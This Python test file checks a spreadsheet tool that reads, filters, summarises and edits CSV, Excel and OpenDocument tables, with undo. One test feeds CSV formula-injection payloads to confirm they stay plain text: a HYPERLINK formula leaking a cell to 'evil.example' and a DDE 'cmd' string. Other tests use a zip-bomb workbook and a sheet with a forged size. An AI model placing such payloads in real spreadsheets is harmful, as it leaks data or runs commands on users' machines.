"""spreadsheet over CSV, Excel and OpenDocument tables: asked, summarised, edited, taken back."""

from __future__ import annotations

import hashlib
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from app.records import Answer
from tests.tools.documents.desk import DocumentCaller

ROOT = Path(__file__).parents[3]
SALES = (
    "city,amount,on,note\nRome,100,2026-01-05,\nOslo,20.5,2026-02-01,paid\n"
    '"New York",7,2026-03-09,"two\nlines"\nRome,-3,2025-12-31,PAID late\n'
)


def rows(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")][2:]


async def test_a_csv_file_is_read_by_pages_with_numbers_of_its_rows(call: DocumentCaller) -> None:
    call.desk.write("sales.csv", SALES)
    outcome = await call("spreadsheet", path="sales.csv", action="read", columns=["city", "AMOUNT"], limit=2)
    assert outcome.ok and not call.desk.asked
    assert outcome.text.splitlines()[0] == "| row | city | amount |"
    assert rows(outcome.text) == ["| 2 | Rome | 100 |", "| 3 | Oslo | 20.5 |"]
    assert "go on with offset 2" in outcome.text
    rest = await call("spreadsheet", path="sales.csv", action="read", offset=2)
    assert rows(rest.text)[0] == "| 4 | New York | 7 | 2026-03-09 | two lines |"
    assert rest.view.kind == "table"


@pytest.mark.parametrize(
    ("where", "found"),
    [
        ("city = Rome", ["2", "5"]),
        ("city = New York", ["4"]),
        ("amount > 7", ["2", "3"]),
        ("amount >= 7 and not city = Rome", ["3", "4"]),
        ("on >= 2026-02-01", ["3", "4"]),
        ("note contains paid", ["3", "5"]),
        ("note is empty or [city] = 'Oslo'", ["2", "3"]),
        ("city in (Oslo, 'New York')", ["3", "4"]),
        ("city not in (Oslo, 'New York')", ["2", "5"]),
        ("note starts with PA", ["3", "5"]),
        ("city matches '^R.m'", ["2", "5"]),
        ("(amount < 0 or amount > 50) and city != Oslo", ["2", "5"]),
        ("B < 0", ["5"]),
        ("amount > zzz", []),
    ],
)
async def test_conditions_on_rows(call: DocumentCaller, where: str, found: list[str]) -> None:
    call.desk.write("sales.csv", SALES)
    outcome = await call("spreadsheet", path="sales.csv", action="filter", where=where)
    assert outcome.ok, outcome.text
    assert [line.split("|")[1].strip() for line in rows(outcome.text)] == found


@pytest.mark.parametrize(
    "where",
    ["town = Rome", "city", "city =", "city = )", "(city = Rome", "city matches '['", "((" * 60 + "city = x"],
)
async def test_a_condition_that_cannot_be_read_says_why(call: DocumentCaller, where: str) -> None:
    call.desk.write("sales.csv", SALES)
    outcome = await call("spreadsheet", path="sales.csv", action="filter", where=where)
    assert not outcome.ok and "sales.csv" in outcome.text and "failed inside" not in outcome.text


async def test_a_summary_of_numbers_dates_texts_and_failed_formulas(call: DocumentCaller) -> None:
    for name in ("numbers.xlsx", "numbers.ods"):
        call.bring(name)
        outcome = await call("spreadsheet", path=name, action="summarize")
        table = {
            line.split("|")[1].strip(): [c.strip() for c in line.split("|")] for line in rows(outcome.text)
        }
        assert table["amount"][5:9] == ["140.75", "46.9166666667", "-10", "120.5"], outcome.text
        assert table["each"][4:6] == ["2 numbers, 1 errors", "57.75"]
        assert table["paid on"][4] == "dates" and table["paid on"][7:9] == [
            "2026-05-01",
            "2026-06-15 13:30:00",
        ]
        assert "#DIV/0!: 1" in outcome.text


async def test_groups_of_a_column(call: DocumentCaller) -> None:
    call.desk.write("sales.csv", SALES)
    outcome = await call("spreadsheet", path="sales.csv", action="summarize", by="city", columns=["amount"])
    assert rows(outcome.text)[0] == "| Rome | 2 | 97 | 48.5 |"


@pytest.mark.parametrize(
    ("data", "sum_"),
    [
        ("name;sum\nä;1.234,50\nb;0,5\n".encode("cp1252"), "1235"),
        ("name\tsum\nä\t1,234.50\nb\t0.5\n".encode("utf-16"), "1235"),
        ("\ufeffname,sum\r\nä,$1\r\nb,2\r\n".encode(), "3"),
        (b"sep=;\nname;sum\na;1\nb;2\n", "3"),
        (b"name|sum\na|0.1\nb|0.2\n", "0.3"),
        (b'name,sum\n"a,""b""",5\n,\n', "5"),
    ],
)
async def test_encodings_and_separators(call: DocumentCaller, data: bytes, sum_: str) -> None:
    call.desk.write("t.csv", data)
    outcome = await call("spreadsheet", path="t.csv", action="summarize", columns=["sum"])
    assert outcome.ok, outcome.text
    assert rows(outcome.text)[0].split("|")[5].strip() == sum_, outcome.text


async def test_an_edit_keeps_every_other_byte_and_can_be_taken_back(call: DocumentCaller) -> None:
    data = 'id;wert;"x"\r\n1;"10";a\r\n\r\n2;20,5;"b;""c"""\r\n3;ä;c'.encode("cp1252")
    path = call.desk.write("t.csv", data)
    outcome = await call(
        "spreadsheet", path="t.csv", action="write", cells={"B2": 11}, values={"wert": "é;"},
        where="id = 2", rows=[{"id": 4}],
    )  # fmt: skip
    assert outcome.ok and outcome.undo and "changed, verified" in outcome.text, outcome.text
    wanted = 'id;wert;"x"\r\n1;11;a\r\n\r\n2;"é;";"b;""c"""\r\n3;ä;c\r\n4;;\r\n'.encode("cp1252")
    assert path.read_bytes() == wanted
    lines = [line.kind + line.text for hunk in call.desk.shown().files[0].hunks for line in hunk.lines]
    assert "+1;11;a" in "\n".join(lines).replace("\r", "")
    await call.desk.undo.one(outcome.undo)
    assert path.read_bytes() == data


async def test_rows_go_and_a_refused_edit_changes_nothing(call: DocumentCaller) -> None:
    path = call.desk.write("sales.csv", SALES)
    gone = await call("spreadsheet", path="sales.csv", action="write", where="amount < 10", remove=True)
    assert gone.ok and "2 rows removed" in gone.text
    assert path.read_text() == "city,amount,on,note\nRome,100,2026-01-05,\nOslo,20.5,2026-02-01,paid\n"
    call.desk.answer = lambda effect: Answer(decision="deny")
    before = path.read_bytes()
    refused = await call("spreadsheet", path="sales.csv", action="write", cells={"A2": "x"})
    assert not refused.ok and path.read_bytes() == before
    assert not list(Path("/tmp").glob("bramble-*/made"))


async def test_what_an_edit_cannot_mean_is_said(call: DocumentCaller) -> None:
    path = call.desk.write("sales.csv", SALES)
    call.desk.write("latin.csv", "a,b\nä,1\n".encode("latin-1"))
    call.bring("numbers.ods")
    cases = [
        ("sales.csv", {"cells": {"B99": 1}}, "no such rows"),
        ("sales.csv", {"cells": {"99": 1}}, "no cell"),
        ("sales.csv", {"values": {"town": 1}, "where": "city = Rome"}, "no column"),
        ("sales.csv", {"values": {"city": 1}}, "where"),
        ("sales.csv", {"rows": [[1, 2, 3, 4, 5]]}, "5 cells"),
        ("sales.csv", {"cells": {"A1": [1]}}, "no text"),
        ("sales.csv", {"cells": {"A2": "Rome"}}, "No cell would change"),
        ("sales.csv", {}, "Give cells"),
        ("latin.csv", {"cells": {"A2": "漢"}}, "cannot hold"),
        ("numbers.ods", {"cells": {"A2": "x"}}, "not edited"),
        ("sales.csv", {"cells": {"A2": "x"}, "sheet": "One"}, "no sheets"),
    ]
    for name, arguments, why in cases:
        outcome = await call("spreadsheet", path=name, action="write", **arguments)
        assert not outcome.ok and why in outcome.text and not outcome.undo, (arguments, outcome.text)
    assert not call.desk.asked and path.read_text() == SALES


async def test_cells_of_a_workbook_change_and_the_question_shows_them(call: DocumentCaller) -> None:
    path = call.bring("numbers.xlsx")
    before = hashlib.sha256(path.read_bytes()).digest()
    outcome = await call(
        "spreadsheet", path="numbers.xlsx", action="write", cells={"C3": 5, "E4": "2026-07-01"},
        rows=[["rope", 3, 1]],
    )  # fmt: skip
    assert outcome.ok and "verified" in outcome.text and "Formulas are calculated" in outcome.text, (
        outcome.text
    )
    shown = call.desk.shown().files[0]
    assert shown.binary and shown.note == "shown_changes"
    assert shown.sample == ("C3: 0 → 5", "E4: (empty) → 2026-07-01", "new row 5: rope | 3 | 1 |  | ")
    sheet = load_workbook(path)["Costs"]
    assert (sheet["C3"].value, sheet["D3"].value, sheet["A5"].value) == (5, "=B3/C3", "rope")
    assert sheet["E4"].is_date
    after = await call("spreadsheet", path="numbers.xlsx", action="read")
    assert "=B3/C3 (not calculated)" in after.text and "Formulas without a saved value: 3" in after.text
    await call.desk.undo.one(outcome.undo)
    assert hashlib.sha256(path.read_bytes()).digest() == before


async def test_rows_of_a_workbook_by_condition(call: DocumentCaller) -> None:
    book = Workbook()
    for row in (["name", "paid"], ["a", "no"], ["b", "yes"], ["c", "no"]):
        book.active.append(row)
    book.save(call.desk.folder / "t.xlsx")
    arguments = {"path": "t.xlsx", "action": "write"}
    outcome = await call("spreadsheet", **arguments, where="paid = no", values={"paid": "yes"})
    assert outcome.ok and "2 cells changed" in outcome.text, outcome.text
    outcome = await call("spreadsheet", **arguments, where="name in (a, b)", remove=True)
    assert outcome.ok and "2 rows removed" in outcome.text
    read = await call("spreadsheet", path="t.xlsx", action="read")
    assert rows(read.text) == ["| 2 | c | yes |"]
    call.bring("numbers.xlsx")
    formulas = await call(
        "spreadsheet", path="numbers.xlsx", action="write", where="item = boat", remove=True
    )
    assert not formulas.ok and "formulas" in formulas.text


async def test_a_chart_is_kept_and_a_shape_is_not_lost_unsaid(call: DocumentCaller) -> None:
    book = Workbook()
    for row in (["x", "y"], [1, 2], [2, 4]):
        book.active.append(row)
    book.save(call.desk.folder / "plain.xlsx")
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=2, min_row=1, max_row=3))
    book.active.add_chart(chart, "D1")
    book.save(call.desk.folder / "chart.xlsx")
    kept = await call("spreadsheet", path="chart.xlsx", action="write", cells={"A2": 9})
    assert kept.ok and "look may change" in kept.text, kept.text
    assert len(load_workbook(call.desk.folder / "chart.xlsx").active._charts) == 1
    path = call.desk.folder / "shape.xlsx"
    with zipfile.ZipFile(call.desk.folder / "chart.xlsx") as source, zipfile.ZipFile(path, "w") as made:
        for name in source.namelist():
            shape = b'<xdr:sp macro="" textlink=""/>' if name.startswith("xl/drawings/drawing") else b""
            made.writestr(name, source.read(name) + (b"<!--" + shape + b"-->" if shape else b""))
    before = path.read_bytes()
    outcome = await call("spreadsheet", path="shape.xlsx", action="write", cells={"A2": 8})
    assert not outcome.ok and "shapes" in outcome.text and path.read_bytes() == before, outcome.text
    other = await call("spreadsheet", path="shape.xlsx", action="write", cells={"A2": 8}, output="other.xlsx")
    assert other.ok and "lacks the shapes" in other.text and path.read_bytes() == before
    assert load_workbook(call.desk.folder / "other.xlsx").active["A2"].value == 8


async def test_rows_that_fit_become_a_new_file(call: DocumentCaller) -> None:
    call.desk.write("sales.csv", SALES)
    call.bring("numbers.ods")
    made = await call("spreadsheet", path="sales.csv", action="filter", where="city = Rome", output="r.xlsx")
    assert made.ok and made.undo and "r.xlsx: made, verified" in made.text and call.desk.asked, made.text
    sheet = load_workbook(call.desk.folder / "r.xlsx").active
    assert [[cell.value for cell in row][:2] for row in sheet.rows] == [
        ["city", "amount"],
        ["Rome", 100],
        ["Rome", -3],
    ]
    assert sheet["C2"].is_date
    made = await call(
        "spreadsheet", path="numbers.ods", action="read", columns=["item", "each"], output="n.csv"
    )
    text = (call.desk.folder / "n.csv").read_text("utf-8")
    assert text == 'item,each\ntent,60.25\n"café, „Zum Bären“",#DIV/0!\nboat,-2.5\n'
    bad = await call("spreadsheet", path="sales.csv", action="read", output="r.doc")
    assert not bad.ok and ".xlsx" in bad.text


async def test_what_is_no_table_says_so(call: DocumentCaller) -> None:
    call.bring("report.docx")
    call.desk.write("nul.csv", b"a,b\n\0\0\0\n")
    call.desk.write("empty.csv")
    call.desk.write("open.csv", 'a,b\n"never closed,1\n' + "x\n" * 3_000_000)
    call.desk.write("broken.xlsx", (call.bring("numbers.xlsx")).read_bytes()[:4000])
    with zipfile.ZipFile(call.desk.folder / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", b"<a>" + b" " * (301 << 20))
    for name in ("report.docx", "nul.csv", "open.csv", "broken.xlsx", "bomb.xlsx", "missing.csv", "."):
        outcome = await call("spreadsheet", path=name, action="summarize")
        assert not outcome.ok and "failed inside" not in outcome.text, (name, outcome.text)
    empty = await call("spreadsheet", path="empty.csv", action="read")
    assert "empty" in empty.text
    sheet = await call("spreadsheet", path="numbers.xlsx", action="read", sheet="Nine")
    assert not sheet.ok and "Costs, More" in sheet.text


async def test_a_sheet_that_lies_about_its_size_costs_nothing(call: DocumentCaller) -> None:
    call.bring("numbers.xlsx")
    source = zipfile.ZipFile(call.desk.folder / "numbers.xlsx")
    with zipfile.ZipFile(call.desk.folder / "wide.xlsx", "w") as made:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                start, end = data.index(b"<dimension"), data.index(b">", data.index(b"<dimension")) + 1
                data = data[:start] + b'<dimension ref="A1:XFD1048576"/>' + data[end:]
            made.writestr(name, data)
    outcome = await call("spreadsheet", path="wide.xlsx", action="summarize")
    assert outcome.ok and "3 rows" in outcome.text


def test_a_table_of_many_rows_takes_no_more_memory_than_a_short_one(tmp_path: Path) -> None:
    """400,000 rows of 20 MB within 90 MiB; `./dev bench` measures ten million."""
    path = tmp_path / "long.csv"
    with path.open("w") as file:
        file.write("id,name,amount\n")
        file.writelines(f"{n},customer number {n % 977} of many,{n % 1000}.25\n" for n in range(400_000))
    script = (
        f"import resource, sys; sys.path.insert(0, {str(ROOT)!r});"
        "resource.setrlimit(resource.RLIMIT_AS, (600 << 20, 600 << 20));"
        "from app.documents.tables.asking import Question, answer;"
        "from app.documents.tables.grids import Source;"
        f"found = answer(Question(Source({str(path)!r}, 'delimited'), where='amount > 990', summary=True));"
        "peak = open('/proc/self/status').read().split('VmHWM:')[1].split()[0];"
        "print(found.total, found.matched, found.rows[2][4], peak)"
    )
    ran = subprocess.run([sys.executable, "-P", "-c", script], capture_output=True, text=True, timeout=300)
    total, matched, sum_, peak = ran.stdout.split() or [ran.stderr]
    assert (total, matched) == ("400000", "4000")
    assert float(sum_) == sum(n + 0.25 for n in range(990, 1000)) * 400
    assert int(peak) < 90 * 1024


async def test_what_is_too_large_for_the_journal_goes_by_way_of_the_trash(
    call: DocumentCaller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.capabilities.documents._JOURNALED", 10)
    path = call.desk.write("sales.csv", SALES)
    path.chmod(0o640)
    outcome = await call("spreadsheet", path="sales.csv", action="write", cells={"B3": 21})
    assert outcome.ok and outcome.undo and "verified" in outcome.text and "trash" in outcome.text, (
        outcome.text
    )
    assert path.read_text() == SALES.replace("20.5", "21") and path.stat().st_mode & 0o777 == 0o640
    (shown,) = call.desk.shown().files
    assert shown.sample == ("B3: 20.5 → 21",) and shown.kind == "changed"
    await call.desk.undo.one(outcome.undo)
    assert path.read_text() == SALES
    made = await call("spreadsheet", path="sales.csv", action="filter", where="city = Oslo", output="o.csv")
    assert made.ok and (call.desk.folder / "o.csv").read_text().count("\n") == 2, made.text


async def test_texts_of_a_table_never_become_formulas(call: DocumentCaller) -> None:
    texts = [
        '=HYPERLINK("http://evil.example/?"&B2)',
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "+1+cmd",
        "#REF!",
        "-5",
    ]
    rows = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",{at}\n' for at, text in enumerate(texts))
    call.desk.write("in.csv", f"=HEAD(),n\n{rows}")
    made = await call("spreadsheet", path="in.csv", action="filter", output="out.xlsx")
    assert made.ok, made.text
    sheet = load_workbook(call.desk.folder / "out.xlsx").active
    found = [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(max_col=1)]
    assert found == [("=HEAD()", "s"), *((text, "s") for text in texts[:-1]), (-5, "n")]
    made = await call("spreadsheet", path="out.xlsx", action="filter", output="again.csv")
    assert "takes 5 of these texts as formulas" in made.text


async def test_a_question_says_how_many_more_cells_it_does_not_show(call: DocumentCaller) -> None:
    book = Workbook()
    book.save(call.desk.folder / "book.xlsx")
    cells = {f"A{row}": f"v{row}" for row in range(1, 221)} | {"B1": "=A1&" + "x" * 1_200}
    await call("spreadsheet", path="book.xlsx", action="write", cells=cells)
    (shown,) = call.desk.shown().files
    assert len(shown.sample) == 201 and shown.sample[-1] == "… 21 more"
    await call("spreadsheet", path="book.xlsx", action="write", cells={"C1": "x" * 1_200})
    assert call.desk.shown().files[0].sample[0].endswith("more characters]")
